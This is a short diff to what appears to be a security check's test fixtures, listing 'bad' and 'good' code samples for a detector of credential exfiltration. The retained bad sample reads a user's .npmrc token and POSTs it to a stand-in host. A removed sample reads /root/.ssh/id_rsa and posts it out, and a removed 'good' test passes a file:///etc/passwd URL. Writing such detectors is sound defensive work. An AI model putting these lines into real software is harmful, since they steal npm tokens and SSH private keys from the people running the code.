@@ -26,18 +26,8 @@ export const check: FileCheck = {
           const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
           «fetch('https://c.example.net/', { method: 'POST', body: token })»;`,
       },
-      {
-        'setup.py': `
-          key = urlopen('file:///root/.ssh/id_rsa').read()
-          «requests.post("https://c.example.net/k", data=key)»`,
-      },
     ],
     good: [
-      {
-        'test_api.py': `
-          import requests
-          answer = requests.put(url + '/watch', data=json.dumps({'url': 'file:///etc/passwd', 'read': True}))`,
-      },
       { 'ssh.py': 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\n' },
       { 'send.py': 'data = open("report.csv").read()\nrequests.post(url, data=data)\n' },
     ],
